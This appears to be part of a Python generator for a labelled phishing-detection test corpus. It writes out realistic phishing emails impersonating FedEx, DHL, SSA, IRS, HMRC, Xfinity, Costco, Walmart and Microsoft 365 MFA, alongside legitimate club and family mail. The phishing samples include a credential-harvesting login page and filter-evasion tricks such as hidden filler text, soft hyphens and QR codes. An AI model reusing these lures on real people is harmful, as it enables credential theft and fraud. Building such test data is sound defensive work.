    # 41: FedEx customs fee ------------------------------------------------
    when = dt(2024, 11, 26, 7, 30, 0, 0)
    url = "https://fedex-customs-clearance.web.app/pay?awb=778412659031#" + DAVE
    html = notice("FedEx", "#4d148c", "Customs duty payment required",
                  ["Dear Customer,", "Your international shipment <b>AWB 7784 1265 9031</b> from Shenzhen, CN is being held at customs.",
                   "An import duty of <b>&pound;2.87</b> must be paid before it can be released for delivery."],
                  ("Pay duty now", url), "FedEx &copy; 2024. All rights reserved.",
                  logo='<span style="font-size:26px;font-weight:bold;color:#4d148c">Fed<span style="color:#ff6200">Ex</span></span>')
    P("b6-fedex-customs-duty-web-app",
      "FedEx 'customs duty' of £2.87 through a Mailgun account of an unrelated domain; link to a Firebase web.app page with the address in the #fragment",
      rcpt=DAVE, when=when, frm=addr("FedEx Delivery Manager", "notify@mg.stellarpetsupply.com"),
      subject="FedEx: Your shipment is held at customs (AWB 778412659031)", body=html_only(html),
      mailfrom="bounce+7e2d1f.3a9-dave=oldmillradio.org@mg.stellarpetsupply.com",
      client=("m42-8.mailgun.net", "161.38.204.8", "m42-8.mailgun.net"),
      dkim=[("pass", "mg.stellarpetsupply.com", "pic")],
      spam=(1.9, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS"))

    # 42: DHL, whole phishing page as HTML attachment ----------------------
    when = dt(2022, 6, 7, 11, 45, 36, 8)
    page = login_page("DHL Express - Shipping Documents", "DHL Express", "#d40511", INFO,
                      "https://transportes-rioclaro.com.br/wp-content/dhl/post.php",
                      "Sign in with your e-mail password to view your shipping documents (AWB 6153 8842 10)")
    plain = ("Dear Customer,\n\nYour parcel is arriving soon. Please find attached the shipping documents (AWB, commercial "
             "invoice) and confirm the delivery address.\n\nDHL Express Customer Service\n")
    P("b6-dhl-awb-html-login-page",
      "DHL 'shipping documents' from a hacked Brazilian cPanel mailbox; the HTML attachment is the whole login page with the address pre-filled, asking for the e-mail password and posting to a compromised site",
      rcpt=INFO, when=when, frm=addr("DHL Express", "contato@transportes-rioclaro.com.br"),
      subject="DHL Shipment Notification: AWB 6153884210", to="undisclosed-recipients:;",
      body=mixed(text(plain), [attachment("text/html", "DHL_AWB_Shipping_Doc.html", page.encode())], "php", "p42"),
      mailfrom="contato@transportes-rioclaro.com.br", client=("br1040.hostgator-br.net", "162.214.80.41", "br1040.hostgator-br.net"),
      dkim=[("pass", "transportes-rioclaro.com.br", "default")],
      spam=(3.0, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,SPF_PASS,T_HTML_ATTACH"))

    # 43: Social Security statement ---------------------------------------
    when = dt(2024, 9, 17, 9, 21, 8, -4)
    url = "https://ssa-statement-portal.r2.dev/SSA_Statement_2024.html?user=" + SUE
    html = notice("Social Security Administration", "#112e51", "Your Social Security Statement is ready",
                  ["Your electronic Social Security Statement for 2024 is now available.",
                   "Please download and review your statement to make sure your earnings record is correct.",
                   "Statement ID: SSA-0917-44102"],
                  ("Download statement", url), "Social Security Administration &middot; 6401 Security Blvd, Baltimore, MD 21235")
    P("b6-ssa-statement-download-r2",
      "Social Security Administration 'statement ready' from a compromised small-business mailbox (SSA mail comes from ssa.gov); 'Download statement' goes to an r2.dev bucket with the address in the query",
      rcpt=SUE, when=when, frm=addr("Social Security Administration", "office@brightsmileortho-nj.com"),
      subject="Your Social Security Statement is ready to download", body=html_only(html),
      mailfrom="office@brightsmileortho-nj.com", client=("smtp.brightsmileortho-nj.com", "107.180.2.98", "smtp.brightsmileortho-nj.com"),
      dkim=[("pass", "brightsmileortho-nj.com", "default")],
      spam=(2.2, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS"), to=SUE)

    # 44: IRS refund --------------------------------------------------------
    when = dt(2023, 3, 14, 12, 55, 43, -4)
    url = "http://185.244.181.77/irs/refund/index.php"
    plain = ("Internal Revenue Service\n\nAfter the last annual calculation of your fiscal activity we have determined that you "
             "are eligible to receive a tax refund of $1,281.50.\n\nPlease submit the tax refund request and allow us 3-5 "
             f"business days to process it:\n{url}\n\nNote: A refund can be delayed for a variety of reasons, for example "
             "submitting invalid records or applying after the deadline.\n\nInternal Revenue Service\n")
    P("b6-irs-tax-refund-raw-ip",
      "IRS 'you are eligible for a refund' (the IRS does not e-mail refunds) in plain text from a residential-looking host with no DKIM; link to a bare IP address over http",
      rcpt=DAVE, when=when, frm=addr("IRS.gov", "refunds@irs-gov-taxrefund.com"),
      subject="Tax refund notification: $1,281.50", body=text(plain, encoding="7bit"),
      mailfrom="refunds@irs-gov-taxrefund.com", client=("72-19-181-4.static.hfc-cablenet.us", "72.19.181.4", "irs-gov-taxrefund.com"),
      spf="neutral", spam=(4.4, "RDNS_DYNAMIC,SPF_HELO_NONE,SPF_NEUTRAL,NUMERIC_HTTP_ADDR,TVD_PH_SUBJ_ACCOUNTS_POST"))

    # 45: HMRC refund --------------------------------------------------------
    when = dt(2022, 4, 20, 8, 3, 52, 1)
    url = "https://hmrc-refund-claim.onlinegov-uk.com/?ref=HMRC-TR-22-49817&e=" + b64(JAN)
    html = notice("HM Revenue &amp; Customs", "#005ea5", "You are due a tax refund",
                  ["Dear Taxpayer,", "Following a review of your 2021/22 tax return, HMRC has calculated that you are due a refund of <b>&pound;638.27</b>.",
                   "To receive your refund, please complete the online claim form. Claims not made within 7 days will be cancelled.",
                   "Reference: HMRC-TR-22-49817"],
                  ("Claim refund", url), "HM Revenue &amp; Customs &middot; GOV.UK",
                  logo='<span style="font-size:22px;font-weight:bold;color:#0b0c0c">&#9819; GOV.UK</span>')
    P("b6-hmrc-tax-refund-lookalike",
      "HMRC 'you are due a tax refund' (HMRC never e-mails refund offers) sent to a bookkeeper from a throwaway domain; link to a look-alike '.onlinegov-uk.com' domain with the base64 address",
      rcpt=JAN, when=when, frm=addr("HMRC", "refunds@hmrc-notice-gov.uk.com"),
      subject="HMRC: Tax refund of £638.27 is pending", body=html_only(html),
      mailfrom="refunds@hmrc-notice-gov.uk.com", client=("mail.hmrc-notice-gov.uk.com", "45.95.169.12", "mail.hmrc-notice-gov.uk.com"),
      spam=(3.7, "HTML_MESSAGE,MIME_HTML_ONLY,SPF_HELO_NONE,SPF_PASS,T_REMOTE_IMAGE"))

    # 46: Xfinity --------------------------------------------------------------
    when = dt(2025, 6, 24, 14, 9, 17, -4)
    url = "https://xfinity-acct-verify.wixstudio.io/login?u=" + SUE
    html = notice("xfinity", "#6138f5", "Your email account will be suspended",
                  ["Dear Xfinity Customer,",
                   "We were unable to verify your account information. Your Xfinity/Comcast email and services will be suspended within 24 hours.",
                   "Please sign in to confirm your account details."],
                  ("Confirm my account", url), "&copy; 2025 Comcast. All rights reserved.")
    P("b6-xfinity-suspension-wixstudio",
      "Xfinity/Comcast 'email will be suspended' to a non-Comcast address, sent from a compromised school mailbox; link to a wixstudio.io page with the address in the query",
      rcpt=SUE, when=when, frm=addr("Xfinity", "library@stmarksacademy-oh.org"),
      subject="Xfinity: Service suspension notice", body=html_only(html),
      mailfrom="library@stmarksacademy-oh.org",
      client=("mail-pj1-f66.google.com", "209.85.216.66", "mail-pj1-f66.google.com"),
      dkim=[("pass", "stmarksacademy-oh.org", "google")],
      spam=(1.6, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS"), to=SUE)

    # 47: Costco survey, hidden filler (display:none) ------------------------
    when = dt(2025, 9, 9, 19, 56, 4, -5)
    url = "https://c0stco-member-rewards.typeform.com/to/Qk3zR9vL?email=" + DAVE
    hidden = ('<div style="display:none">' + " ".join(
        ["Weather forecast for the weekend looks pleasant with light winds.", "Thank you for attending the parent teacher evening.",
         "The library will be closed on Monday for stocktaking.", "Our recipe this week is a simple tomato soup."] * 3) + "</div>")
    html = notice("Costco", "#005daa", "Congratulations! You have been selected",
                  [hidden + "Dear Costco Member,",
                   "You have been selected to take part in our 30-second member survey. As a thank-you, you can claim a "
                   "<b>Ninja Air Fryer</b> (RRP $199.99) for only the shipping cost.",
                   "Only 7 rewards left today!" + hidden],
                  ("Start survey", url), "Costco Wholesale Member Rewards &middot; To unsubscribe click here")
    P("b6-costco-reward-survey-hidden-text",
      "Costco 'member reward survey' (pay-only-shipping card harvest) with display:none paragraphs of innocent text; '0' for 'o' in the typeform.com URL; from a rotating throwaway domain",
      rcpt=DAVE, when=when, frm=addr("Costco Member Rewards", "rewards@tx9-mbrsurvey.shop"),
      subject="Dave, your Costco loyalty reward is waiting", body=html_only(html),
      mailfrom="rewards@tx9-mbrsurvey.shop", client=("tx9-mbrsurvey.shop", "5.253.59.200", "tx9-mbrsurvey.shop"),
      dkim=[("pass", "tx9-mbrsurvey.shop", "mail")],
      spam=(4.8, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS,HIDDEN_TEXT,TVD_SPACE_RATIO"),
      extra=["List-Unsubscribe: <mailto:unsub@tx9-mbrsurvey.shop>"])

    # 48: Walmart survey, soft hyphens -------------------------------------
    when = dt(2026, 1, 13, 12, 31, 52, -5)
    url = "https://walmart-shopper-feedback.framer.website/?c=WM2026&r=" + b64(SUE)
    wm, gc, sv = zw("Walmart", SHY), zw("gift card", SHY), zw("survey", SHY)
    html = notice(wm, "#0071ce", f"Your $500 {gc} is waiting",
                  [f"Dear {wm} shopper,", f"Thank you for shopping with us. Complete our short {sv} about your last visit "
                   f"and receive a <b>$500 {wm} {gc}</b>.", "Offer expires tonight at midnight."],
                  (f"Start {sv}", url), f"{wm} Customer Feedback &middot; 702 SW 8th St, Bentonville, AR 72716")
    P("b6-walmart-gift-card-soft-hyphens",
      "Walmart '$500 gift card survey' with soft hyphens (U+00AD) inside 'Walmart', 'gift card' and 'survey' in subject and body to break keyword matching; link to a framer.website page with the base64 address",
      rcpt=SUE, when=when, frm=addr(f"{wm} Feedback", "feedback@shopperpanel-review.top"),
      subject=f"Your $500 {wm} {gc} is waiting - complete the {sv}", body=html_only(html),
      mailfrom="feedback@shopperpanel-review.top", client=("mta7.shopperpanel-review.top", "141.98.6.77", "mta7.shopperpanel-review.top"),
      dkim=[("pass", "shopperpanel-review.top", "s1")],
      spam=(4.3, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,MIME_HTML_ONLY,SPF_PASS,T_FILL_THIS_FORM_SHORT"), to=SUE)

    # 49: QR code, Microsoft MFA, to the Microsoft 365 tenant -------------
    when = dt(2024, 11, 5, 8, 12, 40, 0)
    qr_url = "https://mfa-keepalive.harbourlights-trust.workers.dev/?u=" + b64(HLT)
    png = files.qr_png(qr_url)
    html = f"""<html><body style="font-family:'Segoe UI',Arial,sans-serif;font-size:14px;color:#222">
<p style="font-size:20px;font-weight:600">Microsoft 365 - MFA re-authentication</p>
<p>Hello {HLT},</p>
<p>Your multi-factor authentication (MFA) settings expire today. To keep MFA active on your account and avoid being signed out of Outlook and Teams,
<b>scan the QR code below with your phone camera</b> and complete re-authentication.</p>
<p><img src="cid:qr-mfa-1105" width="174" height="174" alt="QR"></p>
<p>This request expires in 24 hours.</p>
<p style="font-size:11px;color:#888">Harbour Lights Trust IT &middot; Microsoft 365 Security</p></body></html>
"""
    body = Multi("related", boundary("outlook", "p49"), [html_only(html),
                 attachment("image/png", "qrcode.png", png, inline=True, cid="qr-mfa-1105")])
    P("b6-qr-mfa-keepalive-m365",
      "quishing: 'scan to keep MFA active' with a real QR code (PNG) encoding a workers.dev URL with the base64 address, so there is no clickable link in the body; display name 'Harbour Lights Trust IT' but sent from a compromised external tenant",
      rcpt=HLT, when=when, frm=addr("Harbour Lights Trust IT", "it-support@norvalecare.onmicrosoft.com"),
      subject="Action Required: MFA re-authentication for dave.harker@harbourlightstrust.org", body=body,
      mailfrom="it-support@norvalecare.onmicrosoft.com",
      client=("mail-am6eur05on2112.outbound.protection.outlook.com", "40.107.22.112", "EUR05-AM6-obe.outbound.protection.outlook.com"),
      dkim=[("pass", "norvalecare.onmicrosoft.com", "selector1-norvalecare-onmicrosoft-com")], scl=1)

    # 50: QR code, webmail MFA on the main domain -------------------------
    when = dt(2025, 4, 15, 6, 20, 33, 0)
    qr_url = "https://webmail-2fa-oldmillradio.glitch.me/#" + DAVE
    png = files.qr_png(qr_url)
    html = notice("oldmillradio.org Webmail", "#455a64", "Two-factor authentication update",
                  ["Dear dave,",
                   "We are upgrading the security of all mailboxes on <b>oldmillradio.org</b>. Scan the code below with your mobile "
                   "device to keep two-factor authentication active. Mailboxes that are not updated within 48 hours will be locked.",
                   '<img src="cid:qr-2fa-0415" width="174" height="174" alt="Scan me">',
                   "Scanning works with the camera app on any iPhone or Android phone."],
                  None, "oldmillradio.org IT Helpdesk &middot; Automated message")
    body = Multi("related", boundary("php", "p50"), [html_only(html),
                 attachment("image/png", "2fa.png", png, inline=True, cid="qr-2fa-0415")])
    P("b6-qr-webmail-2fa-glitch",
      "'oldmillradio.org Webmail' two-factor update with only a QR image (PNG) encoding a glitch.me URL carrying the address; the domain has no 2FA webmail; sent from a hosting box, DMARC fail for the spoofed own domain",
      rcpt=DAVE, when=when, frm=addr("oldmillradio.org Webmail", "it-helpdesk@oldmillradio.org"),
      subject="Two-factor authentication update required", body=body,
      mailfrom="rbarnes@s33.hostflare-cloud.com", client=("s33.hostflare-cloud.com", "198.54.115.33", "s33.hostflare-cloud.com"),
      spam=(2.6, "HEADER_FROM_DIFFERENT_DOMAINS,HTML_IMAGE_RATIO_02,HTML_MESSAGE,SPF_HELO_NONE,SPF_PASS"), extra=[PHPMAILER])


def gmail_alt(plain: str, seed: str) -> Multi:
    import html as _h

    paras = plain.rstrip("\n").split("\n\n")
    body = "<div><br></div>".join("<div>" + "<br>".join(_h.escape(line) for line in p.split("\n")) + "</div>" for p in paras)
    return Multi("alternative", boundary("gmail", seed), [text(plain), text(f'<div dir="ltr">{body}</div>\n', "html")])


def gmail_mid(seed: str) -> str:
    return "CA" + tok(seed + "gm", 44, string.ascii_letters + string.digits + "+_-") + "@mail.gmail.com"


def legit_personal() -> None:
    # c1: Apple Mail, iCloud Photos link ------------------------------------
    when = dt(2024, 8, 18, 20, 41, 7, 1)
    link = "https://share.icloud.com/photos/0f3kR2xYzA8bC1dE4fG7hJ9kL"
    plain = ("Hi Dave,\n\nHere are the photos from Saturday - the mast going up, the tent in the rain and the one of Alan "
             "asleep in the logging chair, which I think should go in the newsletter.\n\n"
             f"{link}\n\nThe link works for 30 days, so grab whatever you want for the website before then.\n\n"
             "Thanks again for organising, it was a great day despite the weather.\n\nHelen\n\nSent from my Mac\n")
    html = (f'<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>'
            f'<body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">'
            f'Hi Dave,<div><br></div><div>Here are the photos from Saturday - the mast going up, the tent in the rain and the one of '
            f'Alan asleep in the logging chair, which I think should go in the newsletter.</div><div><br></div>'
            f'<div><a href="{link}">{link}</a></div><div><br></div><div>The link works for 30 days, so grab whatever you want for '
            f'the website before then.</div><div><br></div><div>Thanks again for organising, it was a great day despite the '
            f'weather.</div><div><br></div><div>Helen</div><div><br></div><div>Sent from my Mac</div></body></html>\n')
    body = Multi("alternative", boundary("apple", "c1"), [text(plain), text(html, "html")])
    C("b6-apple-mail-icloud-photos-link",
      "club member writes from her own iCloud address with Apple Mail (auth passes for icloud.com) about the field day the recipient organised; the only link is an iCloud Photos share on share.icloud.com",
      rcpt=DAVE, when=when, frm=addr("Helen Marsh", "helen.marsh@icloud.com"),
      subject="Field day photos", body=body, mailfrom="helen.marsh@icloud.com",
      client=("st43p00im-ztdg10061901.me.com", "17.58.63.171", "st43p00im-ztdg10061901.me.com"),
      dkim=[("pass", "icloud.com", "1a1hai")], msgid="0E6C2A14-7D3B-4F21-9B8E-5A1C3D2E4F60@icloud.com",
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,DKIM_VALID_EF,FREEMAIL_FROM,HTML_MESSAGE,SPF_HELO_PASS,SPF_PASS"),
      extra=["Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3776.700.51\\))", "X-Mailer: Apple Mail (2.3776.700.51)"])

    # c2: small supplier's e-invoice, Google Workspace -----------------------
    when = dt(2023, 5, 10, 10, 14, 22, 1)
    pdf = files.pdf(["Severn Coax Ltd  -  Unit 4, Riverside Trading Estate, Tewkesbury GL20 8HD",
                     "VAT reg. GB 284 5519 30", "", "INVOICE SC-2291          Date: 10/05/2023",
                     "Bill to: Old Mill Amateur Radio Society (Treasurer)", "Your order: email of 2 May 2023 (D. Harker)", "",
                     "30 m LMR-400 low-loss coax @ 3.20 ..................... 96.00",
                     "6 x N-type male crimp connectors @ 6.50 .............. 39.00",
                     "Carriage .............................................. 8.50",
                     "Subtotal 143.50   VAT 20% 28.70   TOTAL GBP 172.20", "",
                     "Payment terms 30 days. Bank details as on previous invoices (unchanged).",
                     "Thank you for your order."], title="Invoice SC-2291")
    plain = ("Hi Dave,\n\nPlease find attached invoice SC-2291 for the coax and connectors we sent out yesterday (your order of 2 May). "
             "I've copied your treasurer as you asked.\n\nPayment terms are the usual 30 days, bank details unchanged from last year.\n\n"
             "Kind regards,\nGwen Pritchard\nAccounts, Severn Coax Ltd\n01684 555 0172\n")
    C("b6-supplier-invoice-pdf-severn-coax",
      "small supplier the society already buys from sends an invoice PDF (text only, no links) that matches an order the recipient placed; Google Workspace, SPF/DKIM/DMARC pass for severncoax.co.uk; treasurer cc'd as requested, bank details explicitly unchanged",
      rcpt=DAVE, when=when, frm=addr("Gwen Pritchard", "accounts@severncoax.co.uk"), to=addr("Dave Harker", DAVE),
      cc=addr("Old Mill ARS Treasurer", TREAS), subject="Invoice SC-2291 - Old Mill ARS order 2 May",
      body=mixed(gmail_alt(plain, "c2"), [attachment("application/pdf", "SC-2291.pdf", pdf)], "gmail", "c2"),
      mailfrom="accounts@severncoax.co.uk", client=("mail-ej1-f44.google.com", "209.85.218.44", "mail-ej1-f44.google.com"),
      dkim=[("pass", "severncoax.co.uk", "google")], msgid=gmail_mid("c2"),
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,PDF_ATTACHMENT,SPF_HELO_NONE,SPF_PASS"),
      extra=[f"In-Reply-To: <{hexs('c2orig', 20)}@oldmillradio.org>", f"References: <{hexs('c2orig', 20)}@oldmillradio.org>"])

    # c3: OneDrive link from a known contact, written by hand in Outlook -----
    when = dt(2024, 7, 2, 13, 8, 51, 1)
    link = ("https://fieldsidesurveys-my.sharepoint.com/:x:/g/personal/priya_natarajan_fieldsidesurveys_co_uk/"
            "EcT4m9QpZ2dLk7vB1sWx3aoBqR8yN5fH6jK2lM0pX4cVzQ?e=7uYq2F")
    html = (f'<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>'
            f'<div style="font-family:Aptos,Calibri,sans-serif;font-size:12pt;color:#000">Hi Dave,<br><br>'
            f'As promised at Thursday\'s meeting, here is the field day log spreadsheet (the merged one with both stations and the '
            f'dupes taken out). It\'s on my OneDrive, view only:<br><br><a href="{link}">Field Day 2024 - merged log.xlsx</a><br><br>'
            f'I\'ll send the Cabrillo file separately once Mike has checked the 40 m band times.<br><br>Priya<br><br>'
            f'<span style="font-size:9pt;color:#666">Priya Natarajan MRICS | Fieldside Surveys Ltd | 07700 900 418</span></div></body></html>\n')
    plain = ("Hi Dave,\n\nAs promised at Thursday's meeting, here is the field day log spreadsheet (the merged one with both "
             "stations and the dupes taken out). It's on my OneDrive, view only:\n\nField Day 2024 - merged log.xlsx<" + link +
             ">\n\nI'll send the Cabrillo file separately once Mike has checked the 40 m band times.\n\nPriya\n")
    C("b6-onedrive-link-from-club-member",
      "known club member sends a OneDrive (sharepoint.com) link to the log spreadsheet she promised at the meeting, from her own company's Microsoft 365 mailbox with SPF/DKIM/DMARC pass; personal context, nothing to sign in to beyond viewing",
      rcpt=DAVE, when=when, frm=addr("Priya Natarajan", "priya.natarajan@fieldsidesurveys.co.uk"), to=addr("Dave Harker", DAVE),
      subject="Field day log - merged", body=Multi("alternative", boundary("outlook", "c3"), [text(plain), text(html, "html")]),
      mailfrom="priya.natarajan@fieldsidesurveys.co.uk",
      client=("mail-cwxgbr01on2117.outbound.protection.outlook.com", "40.107.121.117", "GBR01-CWX-obe.outbound.protection.outlook.com"),
      dkim=[("pass", "fieldsidesurveys.co.uk", "selector1")],
      msgid="LO4P265MB6218C1A9F5B2D3E4A7B8C9D0E1F2A3B4C5D6@LO4P265MB6218.GBRP265.PROD.OUTLOOK.COM",
      spam=(-0.1, "ARC_SIGNED,ARC_VALID,DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,HTML_MESSAGE,SPF_HELO_PASS,SPF_PASS"),
      extra=["Thread-Topic: Field day log - merged", "Content-Language: en-GB", "X-MS-Has-Attach:"])

    # c4: member forwards a suspicious mail and asks --------------------------
    when = dt(2022, 3, 8, 8, 15, 3, 0)
    g = fix(gmail("alan.price47@gmail.com", when, "c4"), DAVE)
    plain = ("Morning Dave,\n\nGot this overnight. It says it's from our own webmail but the button goes somewhere odd when I hover "
             "over it. I haven't clicked anything. Is it one of yours or should I just bin it?\n\nAlan\n\n"
             "---------- Forwarded message ---------\nFrom: oldmillradio.org Webmail <no-reply@oldmillradio.org>\n"
             "Date: Tue, 8 Mar 2022 at 11:41\nSubject: Password Expiration Notice for alan@oldmillradio.org\n"
             "To: <alan@oldmillradio.org>\n\n\nDear alan,\n\nThe password to your mailbox alan@oldmillradio.org expires today 3/8/2022.\n"
             "To keep using your current password and avoid interruption of incoming mails, use the button below.\n\n"
             "Keep Same Password <https://owa-mailbox-sync.dm7k2p.workers.dev/?login=alan@oldmillradio.org>\n\n"
             "This message was sent automatically by the oldmillradio.org mail server. Do not reply.\n")
    C("b6-member-forwards-suspicious-webmail-notice",
      "a known member forwards a phishing notice he received and asks the secretary whether it is real; the quoted phish and its URL are evidence, not a lure: sent from the member's own gmail.com account (auth passes), personal wording, no request to click",
      rcpt=DAVE, when=when, frm=addr("Alan Price", "alan.price47@gmail.com"), to=addr("Dave Harker", DAVE),
      subject="Fwd: Password Expiration Notice for alan@oldmillradio.org - is this real?", body=gmail_alt(plain, "c4"),
      msgid=gmail_mid("c4"), spam=(0.4, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,FREEMAIL_FROM,HTML_MESSAGE,SPF_PASS"), **g)

    # c5: reply in a thread, Fastmail ---------------------------------------
    when = dt(2023, 6, 27, 21, 4, 44, 1)
    plain = ("On Tue, 27 Jun 2023, at 18:22, Dave Harker wrote:\n> Mike, can you still bring the big generator on Saturday? If not I'll\n"
             "> ask the scouts if we can borrow theirs again.\n\nYes, it's serviced and I'll fill it up on Friday. I'll bring the "
             "spare fuel can and the long extension reel too. Can someone else bring the gazebo weights? My car will be full with "
             "the generator and the 20 m beam.\n\nAlso - the farm gate code has changed, it's now 2241. Please don't put that on the "
             "website!\n\nMike\n\n--\nMike Tolland G4XMT\n")
    C("b6-thread-reply-generator-fastmail",
      "plain-text reply in an ongoing thread (quoted text, In-Reply-To/References to the recipient's own message) from a member's personal domain on Fastmail; SPF/DKIM/DMARC pass; mentions a gate code but asks for nothing",
      rcpt=DAVE, when=when, frm=addr("Mike Tolland", "mike@tolland.me.uk"), to=addr("Dave Harker", DAVE),
      subject="Re: Field day generator booking", body=text(plain),
      mailfrom="mike@tolland.me.uk", client=("fout-a2-smtp.messagingengine.com", "103.168.172.145", "fout-a2-smtp.messagingengine.com"),
      dkim=[("pass", "tolland.me.uk", "fm3"), ("pass", "messagingengine.com", "fm3")],
      msgid="b7c1e2d4-3f5a-4a6b-8c9d-0e1f2a3b4c5d@app.fastmail.com",
      spam=(-0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,RCVD_IN_DNSWL_LOW,SPF_HELO_PASS,SPF_PASS"),
      upstream=[f"Received: from mailfrontend1.messagingengine.com (mailfrontend1 [10.202.2.171])\n\tby mailfout.phl.internal (Postfix) with ESMTP id 7E4A21380169\n\tfor <{DAVE}>; {fmt(when)}"],
      extra=[f"In-Reply-To: <{hexs('c5orig', 22)}@oldmillradio.org>", f"References: <{hexs('c5orig', 22)}@oldmillradio.org>",
             "User-Agent: Cyrus-JMAP/3.9.0-alpha0-541-gd2b8c3f4a-fm-20230626.001-gd2b8c3f4"])

    # c6: Wi-Fi and password talk between members ----------------------------
    when = dt(2025, 10, 2, 19, 37, 12, 1)
    g = fix(gmail("alan.price47@gmail.com", when, "c6"), DAVE)
    plain = ("Dave,\n\nBT came and swapped the router at the hut this afternoon. The new Wi-Fi password is on the card pinned "
             "above the kettle - I'm not putting it in an email.\n\nI've also changed the password for the shared info@ mailbox "
             "since Ray left the committee. I'll give it to you and Priya in person at the meeting on Thursday. If your phone "
             "asks you to sign in again that's why, it isn't anything dodgy.\n\nCheers,\nAlan\n")
    C("b6-wifi-and-mailbox-password-change-note",
      "committee member's own gmail.com account (auth passes) explains he changed the shared mailbox password and will hand it over in person; talks about passwords and signing in but contains no link and asks for nothing",
      rcpt=DAVE, when=when, frm=addr("Alan Price", "alan.price47@gmail.com"), to=addr("Dave Harker", DAVE),
      cc=addr("Priya Natarajan", "priya.natarajan@fieldsidesurveys.co.uk"),
      subject="Hut router + info@ password", body=gmail_alt(plain, "c6"), msgid=gmail_mid("c6"),
      spam=(0.3, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,FREEMAIL_FROM,HTML_MESSAGE,SPF_PASS"), **g)

    # c7: client sends scans to the bookkeeper --------------------------------
    when = dt(2024, 4, 22, 16, 51, 29, 1)
    g = fix(gmail("tomashcroft.builds@gmail.com", when, "c7"), JAN)
    pdf = files.pdf(["P60 End of Year Certificate  -  Tax year to 5 April 2024", "Employee: Thomas Ashcroft",
                     "PAYE reference: 120/AB45678", "Pay in this employment: 18,240.00", "Tax deducted: 1,134.60", "",
                     "[scanned page 2]", "Ashcroft Builds - van invoice, Tewkesbury Motors, 14/03/2024: 1,180.00"],
                    title="Scan_0012")
    plain = ("Hi Jan,\n\nAs promised, here are my P60 from the part-time job and the invoice for the van repair. I scanned them "
             "at the library so sorry if they're a bit wonky.\n\nThe mileage log is still in the van, I'll drop it round on Friday.\n\n"
             "Thanks,\nTom\n")
    C("b6-client-sends-scanned-p60",
      "bookkeeping client sends the documents he was asked for from his gmail.com account (auth passes); the attachment is a real PDF named Scan_0012.pdf with text content and no links",
      rcpt=JAN, when=when, frm=addr("Tom Ashcroft", "tomashcroft.builds@gmail.com"), to=addr("Jan Whitlow", JAN),
      subject="P60 and van invoice", body=mixed(gmail_alt(plain, "c7a"), [attachment("application/pdf", "Scan_0012.pdf", pdf)], "gmail", "c7"),
      msgid=gmail_mid("c7"), spam=(0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,FREEMAIL_FROM,HTML_MESSAGE,SPF_PASS"), **g)

    # c8: family photos ---------------------------------------------------------
    when = dt(2023, 8, 14, 9, 2, 18, 1)
    g = fix(gmail("kathrenshaw62@gmail.com", when, "c8"), SUE)
    plain = ("Morning Sue,\n\nTwo from Tenby - the harbour and the beach at Castle Sands. Mum loved it, she managed the walk "
             "down to the harbour both days.\n\nSpeak at the weekend?\n\nKath x\n")
    C("b6-family-photos-gmail",
      "sister sends two holiday JPEG photos from her gmail.com account (auth passes); family context, no links",
      rcpt=SUE, when=when, frm=addr("Kath Renshaw", "kathrenshaw62@gmail.com"), to=addr("Sue Harker", SUE),
      subject="Tenby", body=mixed(gmail_alt(plain, "c8a"), [attachment("image/jpeg", "IMG_4471.jpg", files.photo_jpeg(3)),
                                                            attachment("image/jpeg", "IMG_4488.jpg", files.photo_jpeg(8))], "gmail", "c8"),
      msgid=gmail_mid("c8"), spam=(0.1, "DKIM_SIGNED,DKIM_VALID,DKIM_VALID_AU,FREEMAIL_FROM,HTML_MESSAGE,SPF_PASS"), **g)


def legit_notifications() -> None:
    # b1: Microsoft account password reset code ------------------------------
    when = dt(2024, 5, 21, 18, 12, 3, 0)
    plain = ("Microsoft account\n\nPassword reset code\n\nPlease use this code to reset the password for the Microsoft account "
             "da*****@oldmillradio.org.\n\nHere is your code: 482915\n\nIf you don't recognise the Microsoft account "
             "da*****@oldmillradio.org, you can click https://account.live.com/dp?ft=-Dq8ZzV3kN7wQ4sT1uYb to remove your email address "
             "from that account.\n\nThanks,\nThe Microsoft account team\n")
    html = notice("Microsoft account", "#0067b8", "Password reset code",
                  ["Please use this code to reset the password for the Microsoft account <a href=\"mailto:da*****@oldmillradio.org\" "
                   "style=\"color:#2672ec\">da*****@oldmillradio.org</a>.",
                   'Here is your code: <span style="font-weight:bold">482915</span>',
                   'If you don\'t recognise the Microsoft account da*****@oldmillradio.org, you can '
                   '<a href="https://account.live.com/dp?ft=-Dq8ZzV3kN7wQ4sT1uYb" style="color:#2672ec">click here</a> to remove your email address from that account.',
                   "Thanks,<br>The Microsoft account team"], None,
                  '<a href="https://go.microsoft.com/fwlink/?LinkId=521839" style="color:#888">Privacy Statement</a><br>'
                  "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052")
    B("b6-microsoft-account-password-reset-code",
      "genuine Microsoft account reset code the user requested: sent by accountprotection.microsoft.com with SPF/DKIM/DMARC pass, masked address, a code rather than a sign-in link, only account.live.com and go.microsoft.com links",
      rcpt=DAVE, when=when, frm=addr("Microsoft account team", "account-security-noreply@accountprotection.microsoft.com"),
      subject="Microsoft account password reset", body=alt(plain, html, "outlook", "b1"),
      mailfrom="account-security-noreply@accountprotection.microsoft.com",
